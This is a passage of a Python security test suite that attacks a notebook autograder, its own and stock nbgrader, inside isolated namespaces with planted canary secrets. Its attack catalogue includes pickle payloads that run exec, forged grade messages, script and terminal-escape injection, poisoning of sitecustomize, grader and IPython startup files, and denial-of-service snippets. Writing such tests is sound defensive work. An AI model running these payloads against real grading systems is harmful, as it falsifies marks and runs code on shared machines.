        "a flood of output",
        EXHAUST,
        """
        from IPython.display import display
        for _ in range(40): display({"text/html": "x" * 1_000_000}, raw=True)
        """,
        either(swelled, broke),
        falls("only streams are cut"),
        solved=True,
        walls=False,
    ),
    Attack(
        "a flood on the descriptors",
        EXHAUST,
        """
        for fd in (1, 2):
            for _ in range(40): os.write(fd, b"x" * 1_000_000 + b"\\n")
        """,
        either(swelled, broke),
        falls("a stream is cut by its lines, however long"),
        solved=True,
        walls=False,
    ),
    Attack(
        "a huge result and a huge traceback",
        EXHAUST,
        """
        class Loud(Exception):
            __repr__ = __str__ = lambda self: "x" * 30_000_000
        display(Loud())
        raise Loud
        """,
        either(swelled, broke),
        falls("results and errors are not cut"),
        solved=True,
        walls=False,
    ),
    Attack(
        "an endless problem",
        EXHAUST,
        """
        from grader.exercises.answers import Problem
        answering(lambda answer: Problem("error", "E" * 5_000_000, "x\\n\\n" * 2_000_000))
        """,
        either(swelled, broke),
        falls("what the check says is not cut"),
        solved=True,
        walls=False,
    ),
    Attack(
        "a number of a million digits",
        EXHAUST,
        """
        sys.set_int_max_str_digits(0)
        def block_matmul(A, B):
            return [[10 ** 10 ** 6 for _ in B[0]] for _ in A]
        """,
        either(broke, undeserved),
        stands("it is not close to anything"),
        into="block_matmul",
        walls=False,
        seconds=4,
        slow=True,
    ),
    Attack(
        "lists in themselves",
        EXHAUST,
        """
        def block_matmul(A, B):
            answer = []; answer.append(answer)
            return answer
        """,
        either(broke, undeserved),
        stands("too much recursion is an error like any other"),
        into="block_matmul",
        walls=False,
        slow=True,
    ),
    Attack(
        "a dict of a million keys",
        EXHAUST,
        """
        def block_matmul(A, B):
            return dict.fromkeys(map(str, range(1_000_000)), 1.0)
        """,
        either(broke, undeserved, grew, swelled),
        stands("it is not a list"),
        into="block_matmul",
        walls=False,
        seconds=8,
        slow=True,
    ),
    # Hang.
    Attack(
        "swallow every interruption",
        HANG,
        """
        while True:
            try:
                while True: sum(range(9))
            except BaseException: pass
        """,
        either(broke, lost),
        falls("it gives up the whole hand-in"),
        solved=True,
        middle=True,
        seconds=3,
        slow=True,
    ),
    Attack(
        "loop in C, deaf to signals",
        HANG,
        "sum(itertools.repeat(0))",
        either(broke, lost),
        falls("it gives up the whole hand-in"),
        solved=True,
        middle=True,
        seconds=3,
    ),
    Attack(
        "take away the alarm",
        HANG,
        """
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        signal.signal = signal.setitimer = lambda *a: None
        while True: pass
        """,
        either(broke, lost),
        stands("an interrupt reaches Python by another thread"),
        solved=True,
        middle=True,
        seconds=3,
        slow=True,
    ),
    Attack(
        "stop oneself",
        HANG,
        "os.kill(os.getpid(), signal.SIGSTOP)",
        either(broke, lost),
        falls("it gives up the whole hand-in"),
        solved=True,
        middle=True,
        seconds=3,
    ),
    Attack(
        "a thread that keeps the interpreter",
        HANG,
        """
        sys.setswitchinterval(1e6)
        threading.Thread(target=lambda: sum(itertools.repeat(0)), daemon=True).start()
        """,
        either(broke, lost),
        falls("it gives up the whole hand-in"),
        solved=True,
        middle=True,
        seconds=3,
        slow=True,
    ),
    Attack(
        "an answer that does not end",
        HANG,
        """
        class Endless:
            def __del__(self):
                while True:
                    try: time.sleep(1)
                    except BaseException: pass
        def case3(a, b, *, mesh):
            Endless()
        """,
        either(broke, lost),
        falls("it gives up the whole hand-in"),
        solved=True,
        into="case3",
        seconds=3,
        slow=True,
    ),
    Attack(
        "crash",
        HANG,
        "ctypes.string_at(0)",
        either(broke, lost),
        falls("a dead kernel: the hand-in has no marks"),
        solved=True,
        middle=True,
    ),
    Attack(
        "go on after the end",
        HANG,
        """
        os._exit = sys.exit = lambda *a: None
        threading.Thread(target=time.sleep, args=(1000,)).start()
        """,
        either(broke, lost),
        stands("the kernel is killed in the end"),
        solved=True,
        middle=True,
        later=True,
        slow=True,
    ),
    Attack(
        "ask for input",
        HANG,
        "input('?'); sys.stdin.read(); open(0).read()",
        either(broke, lost),
        stands("there is no standard input"),
        solved=True,
        middle=True,
    ),
    # Forge what the worker says.
    Attack(
        "a mark on the wire",
        FORGE,
        """
        say(*({"check": name, key: value} for name in ("block_matmul", "case3") for value in (4.0, [4.0] * 5, True)
              for key in ("answers", "points", "verdict", "outcomes")))
        """,
        either(undeserved, broke),
        falls(SOCKETS),
        walls=False,
    ),
    Attack(
        "marks beyond measure on the wire",
        FORGE,
        """
        for points in (float("nan"), float("inf"), -1e308, 1e400):
            outcome = {"exercise": "case3", "check": "values", "points": points, "worth": points, "words": ""}
            say({"check": "case3", "answers": [{"value": points}] * 5, "outcomes": [outcome]}, outcome)
        """,
        either(undeserved, broke),
        falls(SOCKETS),
        walls=False,
    ),
    Attack(
        "outputs for the check cells on the wire",
        FORGE,
        """
        mark = {"output_type": "execute_result", "data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1}
        say(*({"cell": k, "outputs": [mark]} for k in [*range(-9, 40), 2**70, -(2**70), 1.0, True, None, "2", [2]]))
        """,
        either(undeserved, broke),
        falls(SOCKETS),
        walls=False,
    ),
    Attack(
        "a reply of the judge",
        FORGE,
        """
        right = {"exercise": "case3", "check": "values", "points": 4.0, "worth": 4.0, "mistake": "", "words": ""}
        say({"outcomes": [right], "where": "", "html": "<b>4 of 4</b>", "text": "4 of 4"})
        """,
        either(undeserved, broke),
        falls(SOCKETS),
        walls=False,
    ),
    Attack(
        "an early end, and everything twice",
        FORGE,
        """
        for _ in range(2): say(*[{"check": "case3", "answers": []}] * 500, {"end": True}, {"end": True})
        """,
        either(undeserved, broke, spoiled),
        falls(SOCKETS),
        later=True,
        walls=False,
    ),
    Attack(
        "noise on the wire",
        FORGE,
        r"""
        say("[" * 100_000, '{"a":' * 50_000, "\0\x1b\ud7ff", '{"cell": 1e999, "outputs": 7}', "9" * 10_000, '"x"')
        for fd in range(3, 64):
            try: os.write(fd, b"\xff\xfe{\"cell\": 0\n{\"check\": {}}\n")
            except OSError: pass
        """,
        either(broke, lost),
        falls(SOCKETS),
        solved=True,
        middle=True,
        walls=False,
    ),
    Attack(
        "a line without an end",
        FORGE,
        """
        while True: say("x" * 1_000_000)
        """,
        either(broke, grew, lost),
        falls(SOCKETS),
        solved=True,
        middle=True,
        walls=False,
        seconds=8,
    ),
    Attack(
        "a drip on the wire",
        HANG,
        """
        while True:
            try: say(""); time.sleep(0.02)
            except BaseException: pass
        """,
        either(broke, lost),
        falls("it gives up the whole hand-in"),
        solved=True,
        middle=True,
        walls=False,
        seconds=3,
        slow=True,
    ),
    Attack(
        "empty lines without end",
        HANG,
        """
        while True:
            try: say("\\n" * 900_000)
            except BaseException: pass
        """,
        either(broke, lost),
        falls("it gives up the whole hand-in"),
        solved=True,
        middle=True,
        walls=False,
        seconds=3,
        slow=True,
    ),
    Attack(
        "memory behind a drip on the wire",
        EXHAUST,
        """
        def drip():
            while True: say(""); time.sleep(0.01)
        threading.Thread(target=drip, daemon=True).start()
        hoard = []
        for _ in range(60): hoard.append(np.ones(5 << 20)); time.sleep(0.02)
        """,
        grew,
        falls("nothing limits it"),
        solved=True,
        later=True,
        slow=True,
    ),
    Attack(
        "a million small outputs on the wire",
        FORGE,
        """
        small = {"output_type": "stream", "name": "stdout", "text": "x"}
        for _ in range(4): say({"cell": 0, "outputs": [small] * 250_000})
        """,
        either(broke, swelled, grew),
        falls(SOCKETS),
        walls=False,
        seconds=8,
    ),
    Attack(
        "large outputs on the wire",
        FORGE,
        """
        for k in range(12):
            say({"cell": k, "outputs": [{"output_type": "stream", "name": "stdout", "text": "x" * 15_000_000}]})
        """,
        either(broke, swelled, grew),
        falls(SOCKETS),
        walls=False,
    ),
    Attack(
        "an array larger than memory",
        FORGE,
        """
        array = b"\\x93NUMPY\\1\\0\\x76\\0" + b"{'descr': '<f8', 'fortran_order': False, 'shape': (9999999999999,), }"
        array = {"array": base64.b64encode(array.ljust(127) + b"\\n").decode()}
        say(*({"check": name, "answers": [{"value": array}] * count}
              for name in ("block_matmul", "case3") for count in range(1, 9)))
        everywhere("to_json", lambda value: [{"value": array}] * len(value))
        """,
        either(broke, undeserved, grew),
        falls(SOCKETS),
        later=True,
        walls=False,
    ),
    Attack(
        "an archive for an array",
        FORGE,
        """
        file = io.BytesIO()
        np.savez_compressed(file, a=np.zeros(30_000_000))
        array = {"array": base64.b64encode(file.getvalue()).decode()}
        everywhere("to_json", lambda value: [{"value": array}] * len(value))
        """,
        either(broke, undeserved, grew),
        stands(NEVER_TEXT),
        later=True,
        walls=False,
    ),
    Attack(
        "a pickle for an array",
        FORGE,
        """
        class Payload:
            def __reduce__(self): return exec, (f"open({str(ROOM / 'loot/mallory')!r}, 'w').write({MARK!r})",)
        file = io.BytesIO()
        np.save(file, np.array([Payload()], object), allow_pickle=True)
        array = {"array": base64.b64encode(file.getvalue()).decode()}
        everywhere("to_json", lambda value: [{"value": array}] * len(value))
        """,
        either(left, undeserved, broke),
        stands(NEVER_TEXT),
        walls=False,
    ),
    Attack(
        "answers of the wrong kind",
        FORGE,
        """
        kinds = itertools.cycle([
            None, 4.0, "x", {"ask": [{"dict": []}, {"dict": []}, ""]}, {"layout": [[1], "f4", []]}, {"tuple": []},
            {"problem": ["won", "", ""]}, {"float": "nan"}, {"value": {"problem": ["a", "b", "c"]}}, [[]]])
        everywhere("to_json", lambda value: [next(kinds) for _ in value])
        """,
        either(broke, undeserved),
        stands(NEVER_TEXT),
        later=True,
        walls=False,
    ),
    Attack(
        "text that is no text",
        FORGE,
        r"""
        print("\ud800 \udfff \0")
        def block_matmul(A, B): raise ValueError("\ud800\udfff\0")
        def case3(a, b, *, mesh): return "\ud800"
        """,
        broke,
        stands("what cannot be written is replaced"),
        middle=True,
        walls=False,
    ),
    Attack(
        "a script in an error",
        FORGE,
        """
        def case3(a, b, *, mesh):
            raise type("<script>alert(1)</script>", (Exception,), {})("</p><script>alert(2)</script>")
        """,
        unescaped,
        stands("the card is made by the same words, and escapes them"),
        into="case3",
        walls=False,
    ),
    Attack(
        "an error that writes to the terminal",
        FORGE,
        r"""
        def case3(a, b, *, mesh):
            raise ValueError("\x1b]0;owned\x07\x1b[2J\x1b[31mgraded: 4 of 4")
        """,
        controlling,
        falls("errors are kept as they come"),
        into="case3",
        walls=False,
    ),
    # Poison what the next hand-in will use.
    Attack(
        "a module in site-packages",
        POISON,
        """
        for folder in sys.path:
            try: Path(folder, "sitecustomize.py").write_text(f"# {MARK}")
            except OSError: pass
        """,
        left,
        falls(SAME_USER),
    ),
    Attack(
        "the grader's own code",
        POISON,
        """
        import grader.exercises.verdict
        path = Path(grader.exercises.verdict.__file__)
        path.write_text(path.read_text() + f"\\n# {MARK}\\nVerdict.points = 0.0\\n")
        """,
        either(left, spoiled),
        falls(SAME_USER),
        later=True,
    ),
    Attack(
        "compiled code of the grader",
        POISON,
        """
        import grader.exercises.verdict, importlib.util
        path = Path(importlib.util.cache_from_source(grader.exercises.verdict.__file__))
        path.parent.mkdir(exist_ok=True); path.write_bytes(MARK.encode())
        """,
        left,
        falls(SAME_USER),
    ),
    Attack(
        "a start-up file of IPython",
        POISON,
        """
        for home in {Path.home(), ROOM / "home"}:
            place = home / ".ipython/profile_default/startup"
            place.mkdir(parents=True, exist_ok=True)
            (place / "00.py").write_text(f"import grader  # {MARK}\\ngrader.check = lambda *a: 0.0")
        """,
        either(left, spoiled),
        falls("the next kernel reads it"),
        later=True,
    ),
    Attack(
        "caches of JAX and Matplotlib",
        POISON,
        """
        import matplotlib
        for folder in (matplotlib.get_cachedir(), matplotlib.get_configdir(), ROOM / "home/.cache", "/compiled",
                       *filter(None, [jax.config.jax_compilation_cache_dir])):
            for path in [Path(folder, "matplotlibrc"), *Path(folder).glob("*")]:
                try: path.write_text(MARK)
                except OSError: pass
        """,
        either(left, spoiled),
        falls(SAME_USER),
        later=True,
    ),
    Attack(
        "the verdict on a program",
        POISON,
        """
        deliver(lambda artefact: rewritten(artefact, platforms=("tpu",)))
        """,
        either(broke, lost, spoiled),
        stands("it remembers no verdict"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
    ),
    Attack(
        "the verdict on a program, by its names",
        POISON,
        """
        tree = jax.tree.structure(((1, (2,)), {}))
        deliver(lambda artefact: rewritten(artefact, fun_name="x", in_tree=tree, module_kept_var_idx=(1, 0)))
        """,
        either(broke, lost, spoiled),
        stands("it remembers no verdict"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
    ),
    Attack(
        "the modules that were imported before",
        POISON,
        """
        jnp.matmul = np.matmul = jax.shard_map = None
        builtins.len = lambda x: 0
        sys.modules["grader.judging.judge"] = sys.modules["jax"] = sys.modules["json"] = None
        """,
        either(broke, spoiled),
        falls("a kernel without its modules answers no more"),
        later=True,
        walls=False,
    ),
    # Crash the evaluator with a bad artefact.
    Attack(
        "random bytes for a program",
        CRASH,
        "deliver(lambda artefact: os.urandom(5000))",
        crashed,
        stands("reading them is an error like any other"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
    ),
    Attack(
        "half a program",
        CRASH,
        "deliver(lambda artefact: artefact[:len(artefact) // 2])",
        crashed,
        stands("reading it is an error like any other"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
    ),
    Attack(
        "a program with flipped bits",
        CRASH,
        """
        import random
        def flip(artefact):
            bits, draw = bytearray(artefact), random.Random(66)
            for _ in range(20): bits[draw.randrange(len(bits))] ^= 1 << draw.randrange(8)
            return bytes(bits)
        deliver(flip)
        """,
        crashed,
        stands("most often it is not read at all"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
    ),
    Attack(
        "a callback that is not there",
        CRASH,
        """
        deliver(lambda artefact: rewritten(artefact, ending("stablehlo.custom_call @xla_ffi_python_cpu_callback(INPUT) "
            "{api_version = 4 : i32, backend_config = {index = 66666 : ui64}} "
            ": (TYPE) -> TYPE")))
        """,
        crashed,
        stands("XLA finds that it is no proper call"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
    ),
    Attack(
        "a call of something unknown",
        CRASH,
        """
        call = 'stablehlo.custom_call @system(INPUT) {api_version = 2 : i32, backend_config = "id"} : (TYPE) -> TYPE'
        deliver(lambda artefact: rewritten(artefact, ending(call)))
        """,
        crashed,
        stands("XLA refuses it"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
    ),
    Attack(
        "a factorisation of nothing, by its raw name",
        CRASH,
        """
        call = "stablehlo.custom_call @blas_strsm(INPUT) : (TYPE) -> TYPE"
        deliver(lambda artefact: rewritten(artefact, ending(call)))
        """,
        crashed,
        stands("XLA refuses it"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
    ),
    Attack(
        "a program that needs much memory",
        CRASH,
        """
        def case3(a, b, *, mesh):
            return a @ b + jnp.sort(jax.random.normal(jax.random.key(0), (24, 1 << 25)), axis=1)[:, :1].sum()
        """,
        crashed,
        falls("nothing limits it"),
        solved=True,
        into="case3",
        later=True,
    ),
    Attack(
        "a program that does not end",
        CRASH,
        """
        def case3(a, b, *, mesh):
            def body(a, b):
                k = jax.lax.while_loop(lambda k: k >= 0, lambda k: (k + 1) % 7, jnp.int32(0))
                return jax.lax.psum(a @ b, "x") + k
            return jax.shard_map(body, mesh=mesh, in_specs=(P(None, "x"), P("x", None)), out_specs=P())(a, b)
        """,
        crashed,
        falls("it gives up the whole hand-in"),
        solved=True,
        into="case3",
        later=True,
        seconds=6,
        slow=True,
    ),
    Attack(
        "a collective that not all reach",
        CRASH,
        """
        def case3(a, b, *, mesh):
            def body(a, b):
                part = a @ b
                return jax.lax.cond(jax.lax.axis_index("x") == 0, lambda c: jax.lax.psum(c, "x"), lambda c: c, part)
            return jax.shard_map(body, mesh=mesh, in_specs=(P(None, "x"), P("x", None)), out_specs=P(),
                                 check_vma=False)(a, b)
        """,
        crashed,
        stands("the judge reads that it would wait for ever"),
        solved=True,
        into="case3",
        later=True,
    ),
    Attack(
        "a collective that not all reach, out of sight",
        CRASH,
        """
        def case3(a, b, *, mesh):
            hidden = jax.lax.composite(lambda c: jax.lax.cond(jax.lax.axis_index("x") == 0,
                                       lambda c: jax.lax.psum(c, "x"), lambda c: c, c), "far.away")
            return jax.shard_map(lambda a, b: hidden(a @ b), mesh=mesh, in_specs=(P(None, "x"), P("x", None)),
                                 out_specs=P(), check_vma=False)(a, b)
        """,
        crashed,
        stands("the judge sees it there too"),
        solved=True,
        into="case3",
        later=True,
        seconds=6,
        slow=True,
    ),
    Attack(
        "regions in regions",
        CRASH,
        """
        deep, tail = 400, "}) : (tensor<i32>) -> TYPE\\n"
        body = "%i = stablehlo.constant dense<0> : tensor<i32>\\n"
        body += "".join(f'%c{k} = "stablehlo.case"(%i) ({{\\n' for k in range(deep))
        body += "stablehlo.return INPUT : TYPE\\n"
        body += "".join(f"{tail}stablehlo.return %c{k} : TYPE\\n" for k in reversed(range(1, deep))) + tail
        deliver(lambda artefact: rewritten(artefact, ending("stablehlo.add %c0, %c0 : TYPE", before=body)))
        """,
        crashed,
        stands("it is refused, or compiled"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
        seconds=8,
        slow=True,
    ),
    Attack(
        "functions that call each other",
        CRASH,
        """
        itself = "{\\n%y = func.call @f(%x) : (TYPE) -> TYPE\\nreturn %y : TYPE\\n}\\n"
        deliver(lambda artefact: rewritten(artefact, ending(
            "func.call @f(INPUT) : (TYPE) -> TYPE", "func.func private @f(%x: TYPE) -> TYPE " + itself)))
        """,
        crashed,
        stands("to follow it is too much recursion, an error like any other"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
    ),
    Attack(
        "two calls of two calls of two calls",
        CRASH,
        """
        pair = ("func.func private @f%d(%%x: TYPE) -> TYPE {\\n%%y = func.call @f%d(%%x) : (TYPE) -> TYPE\\n"
                "%%w = func.call @f%d(%%y) : (TYPE) -> TYPE\\nreturn %%w : TYPE\\n}\\n")
        last = "func.func private @f60(%x: TYPE) -> TYPE {\\nreturn %x : TYPE\\n}\\n"
        deliver(lambda artefact: rewritten(artefact, ending("func.call @f0(INPUT) : (TYPE) -> TYPE",
                "".join(pair % (k, k + 1, k + 1) for k in range(60)) + last)))
        """,
        crashed,
        stands("the cell's time is over, and nothing else is lost"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
        seconds=8,
        slow=True,
    ),
    Attack(
        "ten thousand operations",
        CRASH,
        """
        many = "".join(f"%m{k + 1} = stablehlo.add %m{k}, %m{k} : TYPE\\n" for k in range(10_000))
        deliver(lambda artefact: rewritten(artefact, ending("func.call @f(INPUT) : (TYPE) -> TYPE",
            "func.func private @f(%m0: TYPE) -> TYPE {\\n" + many + "return %m10000 : TYPE\\n}\\n")))
        """,
        crashed,
        stands("the cell's time is over, and nothing else is lost"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
        seconds=8,
        slow=True,
    ),
    Attack(
        "a mesh of a billion devices",
        CRASH,
        r"""
        deliver(lambda artefact: rewritten(artefact, lambda text: re.sub(
            r'<\["x"=(.*?)\]> {.*}', r'<["x"=\1, "z"=1000000000]>', text)))
        """,
        crashed,
        stands("XLA refuses it"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
    ),
    Attack(
        "groups of devices that are not there",
        CRASH,
        r"""
        deliver(lambda artefact: rewritten(artefact, lambda text: re.sub(
            r"dense<\[\[.*?\]\]> : tensor<\dx\dxi64>", f"dense<{[[*range(99)]]}> : tensor<1x99xi64>", text)))
        """,
        crashed,
        stands("reading it is an error like any other"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
        seconds=8,
    ),
    Attack(
        "a result of another shape than it says",
        CRASH,
        """
        huge = (jax.core.ShapedArray((1 << 20, 1 << 20), jnp.float32),)
        deliver(lambda artefact: rewritten(artefact, out_avals=huge))
        """,
        crashed,
        stands("JAX compares them"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
    ),
    Attack(
        "a program for other devices",
        CRASH,
        """
        deliver(lambda artefact: rewritten(artefact, nr_devices=1 << 14))
        """,
        crashed,
        stands("JAX compares them"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
    ),
    Attack(
        "a pickle in the tree of arguments",
        CRASH,
        """
        class Node: pass
        class Payload:
            def __reduce__(self): return exec, (f"open({str(ROOM / 'loot/mallory')!r}, 'w').write({MARK!r})",)
        jax.tree_util.register_pytree_node(Node, lambda n: ((1.0,), Payload()), lambda aux, c: Node())
        jax.export.register_pytree_node_serialization(Node, serialized_name="node", serialize_auxdata=pickle.dumps,
                                                      deserialize_auxdata=lambda aux: None)
        tree = jax.tree.structure(((Node(), 1.0), {}))
        deliver(lambda artefact: rewritten(artefact, in_tree=tree))
        """,
        either(left, crashed),
        stands("a node is made only by who has registered it"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
    ),
    Attack(
        "wait for data that nobody feeds",
        CRASH,
        """
        feed = '%t = stablehlo.create_token : !stablehlo.token\\n%w:2 = "stablehlo.infeed"(%t) '
        feed += '<{infeed_config = ""}> {mhlo.sharding = "{{replicated}, {maximal device=0}}"} '
        feed += ": (!stablehlo.token) -> (TYPE, !stablehlo.token)\\n"
        deliver(lambda artefact: rewritten(artefact, ending("stablehlo.add %w#0, INPUT : TYPE", before=feed)))
        """,
        crashed,
        stands("XLA refuses it, or the cell's time is over"),
        solved=True,
        middle=True,
        later=True,
        walls=False,
        seconds=8,
        slow=True,
    ),
)
BY_NAME = {attack.name: attack for attack in ATTACKS}


# The laboratory: what runs the attacks, seen from outside.

HERE = Path(__file__).resolve()
STUDENT, NEXT = "mallory", "carol"
UNSHARE = ["unshare", "--mount", "--pid", "--fork", "--kill-child", "--mount-proc", "--net", "--ipc"]


class Lab:
    """A place to run attacks against `which` ("ours" or "stock"), started when first needed and after every harm."""

    def __init__(self, which: str, course: Path):
        self.which, self.course = which, course
        self.process: subprocess.Popen[str] | None = None
        self.room = ""

    @staticmethod
    def missing() -> str:
        """Why there can be no lab on this machine; "" when there can."""
        if not shutil.which("unshare"):
            return "attacks run in namespaces of their own, and there is no `unshare` here"
        tried = subprocess.run([*_unshare(), "true"], capture_output=True, text=True)
        return tried.returncode and f"attacks run in namespaces of their own: {tried.stderr.strip()}" or ""

    def run(self, attack: str) -> Result:
        """Run an attack, by name ("" for an honest hand-in)."""
        if self.process is None:
            self.room = tempfile.mkdtemp(prefix="attacks-", dir="/var/tmp")
            shutil.copytree(self.course, Path(self.room, "fresh"), symlinks=True)
            env = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1"}
            env.pop("PYTEST_CURRENT_TEST", None)  # a kernel that sees it does not listen to its descriptors
            self.process = subprocess.Popen(
                [*_unshare(), sys.executable, str(HERE), "lab", self.which, self.room],
                stdin=subprocess.PIPE,
                stdout=subprocess.PIPE,
                text=True,
                env=env,
            )
        self.process.stdin.write(json.dumps(attack) + "\n")
        self.process.stdin.flush()
        if not (line := self.process.stdout.readline()):
            self.close()
            raise RuntimeError(f"the lab itself ended in “{attack}”")
        result = json.loads(line)
        if result.pop("dirty"):
            self.close()
        return Result(**{k: tuple(v) if isinstance(v, list) else v for k, v in result.items()})

    def close(self) -> list[str]:
        """End the lab; returns what was still there when its grader had ended by itself: processes and files."""
        process, self.process = self.process, None
        if process is None:
            return []
        rest = process.communicate(json.dumps(None) + "\n")[0] if process.poll() is None else ""
        _quiet("rm", "-rf", self.room)
        return json.loads(rest.splitlines()[-1]) if rest.strip() else []


def _unshare() -> list[str]:
    return UNSHARE if os.geteuid() == 0 else [UNSHARE[0], "--user", "--map-root-user", *UNSHARE[1:]]


def hand_in(attack: Attack, course: Path, places: str) -> NotebookNode:
    nb = mini.solved(course) if attack.solved else mini.released(course)
    middle = mini.position(nb, "answer_case3")
    if attack.into:
        mini.edited(nb, f"answer_{attack.into}", lambda cell: cell.update(source=attack.code))
    else:
        mini.with_cell(nb, attack.code, at=middle if attack.middle else 2)
    return mini.with_cell(nb, places + TOOLKIT)


# Inside, the process that grades.


def grade(which: str, room: str) -> None:
    """Grade one hand-in after the other, as told on standard input."""
    replies = os.fdopen(os.dup(1), "w")
    os.dup2(2, 1)
    grader = (_Ours if which == "ours" else _Stock)(Path(room, "course"))
    replies.write("ready\n")
    replies.flush()
    for line in sys.stdin:
        name, places = json.loads(line)
        attack = BY_NAME.get(name)
        nb = hand_in(attack, grader.course, places) if attack else mini.solved(grader.course)
        reply = grader.graded(nb, STUDENT, attack.seconds if attack else 30)
        if attack and (attack.later or attack.after):
            honest = mini.solved(grader.course)
            if attack.after:
                mini.with_cell(mini.with_cell(honest, dedent(attack.after).strip()), places + TOOLKIT)
            then = grader.graded(honest, NEXT, 30)
            reply.update(later=then["points"], text=reply["text"] + then["text"])
        replies.write(json.dumps(reply) + "\n")
        replies.flush()
    grader.close()


class _Ours:
    def __init__(self, course: Path):
        from grader.classroom.verdicts.judge import Judge

        self.course, self.judge, self.seed = course, Judge(seconds=5), int(os.environ["SEED"])

    def graded(self, nb: NotebookNode, student: str, seconds: float) -> dict[str, Any]:
        import nbformat

        from grader.classroom.grading.execute import Grading, grade_notebook
        from grader.classroom.inside.limits import Limits
        from grader.classroom.store import Store

        tight = Limits(cell_seconds=seconds / 3, seconds=seconds, memory=1 << 30)
        try:
            grading = Grading(mini.released(self.course), self.seed, tight)
            result = grade_notebook(nb, grading, self.judge, Store(self.course / ".grading"))
            written = nbformat.writes(result.notebook).encode()
        except Exception as error:
            return {"points": {}, "raised": f"{type(error).__name__}: {error}"[:500], "text": ""}
        return {
            "points": {v.exercise: v.points for v in result.verdicts},
            "size": len(written),
            "words": "\n".join(v.words for v in result.verdicts)[: 1 << 20],
            **_shown(result.notebook),
        }

    def close(self) -> None:
        self.judge.close()


class _Stock:
    """nbgrader as it comes, but for a shorter time limit a cell."""

    def __init__(self, course: Path):
        import stock

        from grader.classroom.course.build import nbgrader

        self.course, self.api = course, nbgrader(course)
        self.api.update_config(stock.configuration(seconds=8))

    def graded(self, nb: NotebookNode, student: str, _: float) -> dict[str, Any]:
        import nbformat
        from nbgrader.api import Gradebook

        handed, graded = (
            self.course / step / student / mini.LESSON / f"{mini.LESSON}.ipynb" for step in ("submitted", "autograded")
        )
        handed.parent.mkdir(parents=True)
        nbformat.write(nb, handed)
        said = self.api.autograde(mini.LESSON, student, force=True, create=True)
        if not said["success"]:
            log = said.get("error") or said.get("log") or "no reason given"
            return {"points": {}, "raised": log.strip().splitlines()[-1][:500], "text": ""}
        with Gradebook(self.api.coursedir.db_url) as book:
            grades = book.find_submission_notebook(mini.LESSON, mini.LESSON, student).grades
            points = {g.name.removeprefix("check_"): g.score for g in grades}
        cards = _shown(nbformat.read(graded, 4))
        return {"points": points, "size": graded.stat().st_size, "words": cards["text"], **cards}

    def close(self) -> None:
        pass


def _shown(nb: NotebookNode) -> dict[str, str]:
    """What the outputs of a graded notebook say, and its cards apart."""
    code = [cell for cell in nb.cells if cell.cell_type == "code"]
    outputs = [o for cell in code for o in cell.outputs]
    text = "".join(
        o.get("text", "")
        + "".join(map(str, o.get("data", {}).values()))
        + o.get("evalue", "")[:9999]
        + "".join(o.get("traceback", ()))[:9999]
        for o in outputs
    )
    cards = "".join(
        o.data.get("text/html", "")
        for cell in code
        if cell.source.startswith("check(")
        for o in cell.outputs
        if "data" in o
    )
    return {"text": text[: 4 << 20], "cards": cards[: 1 << 20]}


def directly(attack: Attack, course: Path) -> Result:
    """Run an attack that needs no walls, without a lab, where there can be none: only marks and errors are seen."""
    os.environ.update(SEED=str(10**8 + secrets.randbelow(10**8)), GRADER_WITHOUT_WALLS="1")
    grader = _Ours(course)
    with tempfile.TemporaryDirectory() as room:
        shutil.copytree(course, Path(room, "course"))
        grader.course = Path(room, "course")
        reply = grader.graded(hand_in(attack, course, _places(Path(room), 1, "none")), STUDENT, attack.seconds)
        if attack.later:
            reply["later"] = grader.graded(mini.solved(course), NEXT, 30)["points"]
    grader.close()
    return Result(**reply)


def _places(room: Path, port: int, token: str) -> str:
    """The first lines of an attack's toolkit: where the baits are."""
    return f"ROOM = __import__('pathlib').Path({str(room)!r}); PORT = {port}; TOKEN = {token!r}\n"


# Inside, the first process: it lays out baits, starts the one that grades, and watches.


def laboratory(which: str, room: Path) -> None:
    warden = Warden(which, room)
    for line in sys.stdin:
        name = json.loads(line)
        if name is None:
            break
        print(json.dumps(warden.run(name)), flush=True)
    print(json.dumps(warden.rest()), flush=True)
    os._exit(0)  # and all that is left here ends with it


class Warden:
    """Process 1 of the lab."""

    def __init__(self, which: str, room: Path):
        assert os.getpid() == 1, "only in namespaces of its own"
        self.which, self.room = which, room
        self.token, self.port = secrets.token_hex(4), 20_000 + secrets.randbelow(10_000)
        self.seed = 10**8 + secrets.randbelow(10**8)
        self.knocks: list[str] = []
        self.grader: subprocess.Popen[str] | None = None
        _read_only(room)
        self.uppers = [self._overlay(k, folder) for k, folder in enumerate(_writable())]
        _quiet("mount", "-t", "tmpfs", "-o", "size=512m", "tmpfs", "/dev/shm")
        _network_up()
        for folder in ("home/.ssh", "home/.cache", "loot", "tmp"):
            (room / folder).mkdir(parents=True)
        self._baits()
        self._doors()

    def _overlay(self, number: int, folder: Path) -> Path:
        """From here on, what is written into `folder` is written elsewhere."""
        upper, work = self.room / f"upper{number}", self.room / f"work{number}"
        upper.mkdir()
        work.mkdir()
        options = f"lowerdir={folder},upperdir={upper},workdir={work}"
        if not (
            _quiet("mount", "-t", "overlay", "overlay", "-o", options, str(folder))
            or _quiet("mount", "-t", "overlay", "overlay", "-o", options + ",userxattr", str(folder))
        ):
            raise RuntimeError(f"no overlay can be put over {folder}: attacks would really write there")
        return upper

    def canary(self, name: str) -> str:
        return f"canary-{name}-{self.token}"

    def _baits(self) -> None:
        import ctypes

        (self.room / "home/.ssh/id_ed25519").write_text(self.canary("key"))
        (self.room / "secret.txt").write_text(self.canary("secret"))
